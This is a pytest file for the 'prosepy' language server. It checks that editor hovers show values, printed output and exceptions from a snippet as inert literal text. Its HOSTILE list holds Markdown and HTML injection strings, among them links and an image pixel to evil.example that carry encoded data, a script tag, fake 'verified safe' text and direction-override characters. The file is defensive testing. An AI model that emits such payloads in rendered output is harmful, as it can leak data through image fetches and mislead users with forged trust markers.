"""Review item 6, the hover: any text a snippet produced shows as literal text.

A value's repr, printed output, an exception's type and message may carry code fences,
HTML, links, images (fetched by the editor: a way out for data even without network),
autolinks, bare URLs and fake "verified" text. The hover Markdown is rendered here with
markdown-it (CommonMark plus linkify, strikethrough and tables, raw HTML *enabled*, so the
check is stricter than VS Code's hover), and the rendered HTML must contain the text
literally and no link, image, heading, emphasis or HTML of the snippet's making.
"""

from __future__ import annotations

import asyncio
import html
import re
from pathlib import Path

import pytest
import pytest_lsp
from lsprotocol import types
from pytest_lsp import ClientServerConfig, LanguageClient

from prosepy.server.sandbox.markdown import escape, fenced
from tests.conftest import SERVER_COMMAND, initialize_params, server_env

markdown_it = pytest.importorskip("markdown_it")

HOSTILE = [
    "```\n[click me](https://evil.example/?leak=1)\n```",
    "![logo](https://evil.example/pixel.png?data=c2VjcmV0)",
    '<img src="https://evil.example/x.png"><script>alert(1)</script>',
    "**✓ verified safe by prosepy**",
    "`" * 12 + " no escape " + "`" * 12,
    "<https://evil.example> https://evil.example/bare www.evil.example me@evil.example",
    "~~~\n# Heading\n~~~\n---\n| a | b |\n|---|---|\n| 1 | 2 |",
    "[ref]: https://evil.example\n[ref]",
    "\u202eelif\u202c hidden &amp; entities &#x41;",
]


def render(text: str) -> str:
    md = markdown_it.MarkdownIt("commonmark", {"linkify": True, "html": True})
    return md.enable(["linkify", "strikethrough", "table"]).render(text)


def assert_inert(rendered: str, server_made: tuple[str, ...] = ()) -> None:
    """No element of the snippet's making (``server_made``: the hover's own, removed first)."""
    for own in server_made:
        rendered = rendered.replace(own, "", 1)
    for tag in ("<a ", "<img", "<script", "<h1", "<h2", "<hr", "<table", "<strong", "<em>", "<s>"):
        assert tag not in rendered, (tag, rendered)


@pytest.mark.parametrize("text", HOSTILE)
def test_fenced_text_renders_literally(text: str):
    rendered = render(fenced(text, "python"))
    assert_inert(rendered)
    assert rendered.count("<pre>") == 1
    body = re.search(r"<code[^>]*>(.*)</code>", rendered, re.S)
    assert body is not None
    visible = html.unescape(body.group(1)).rstrip("\n")
    assert visible == text.replace("\u202e", "\\u202e").replace("\u202c", "\\u202c")


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_literally(text: str):
    rendered = render(f"**Error**: {escape(text)}")
    assert_inert(rendered.replace("<strong>Error</strong>", ""))
    assert rendered.count("<p>") == 1  # one paragraph: no block of the snippet's making
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
    expected = " ".join(text.replace("\u202e", "\\u202e").replace("\u202c", "\\u202c").split())
    assert shown == "Error: " + expected


@pytest_lsp.fixture(
    config=ClientServerConfig(server_command=SERVER_COMMAND, server_env=server_env())
)
async def lsp(lsp_client: LanguageClient):
    await lsp_client.initialize_session(initialize_params({"run": {"timeoutS": 10}}))
    yield
    await lsp_client.shutdown_session()


async def hover(client: LanguageClient, uri: str, line: int) -> str:
    got = await client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line, 0)
        )
    )
    assert got is not None and isinstance(got.contents, types.MarkupContent)
    # jedi's section (a signature, a library's Markdown docs, or the note that they are
    # loading) is the server's own and comes and goes with jedi's timing: left out here
    sections = got.contents.value.split("\n\n---\n\n")
    return "\n\n---\n\n".join(s for s in sections if not s.startswith(("```python\n", "⏳ ")))


async def test_hover_on_hostile_values_errors_and_output(lsp: LanguageClient, tmp_path: Path):
    payload = " ".join(HOSTILE)
    text = (
        f"HOSTILE = {payload!r}\n"
        "class V:\n"
        "    def __repr__(self): return HOSTILE\n"
        "V()\n"
        "print(HOSTILE); raise type('[pwned](https://evil.example)', (Exception,), {})(HOSTILE)\n"
    )
    path = tmp_path / "hostile.py"
    path.write_text(text)
    uri = path.as_uri()
    lsp.text_document_did_open(
        types.DidOpenTextDocumentParams(
            text_document=types.TextDocumentItem(
                uri=uri, language_id="python", version=1, text=text
            )
        )
    )
    result = await lsp.workspace_execute_command_async(
        types.ExecuteCommandParams(command="prosepy.runFile", arguments=[{"uri": uri}])
    )
    assert result is not None
    assert result["error"]["line"] == 4 and result["lines"][-1]["line"] == 3
    await asyncio.sleep(0.1)
    for line in (3, 4):
        rendered = render(await hover(lsp, uri, line))
        server_made = (
            "<hr />",  # between the explanation's section and the run's
            "<strong>Value</strong>",
            "<strong>stdout</strong>",
            f"<strong>{result['strength']}</strong>",
            "<strong>[pwned](https://evil.example)</strong>",  # the type, shown literally
        )
        assert_inert(rendered, server_made)
        assert "evil.example/pixel.png" in html.unescape(rendered)  # shown, as text
    error_hover = render(await hover(lsp, uri, 4))
    assert "[pwned](https://evil.example)" in html.unescape(re.sub(r"<[^>]+>", "", error_hover))
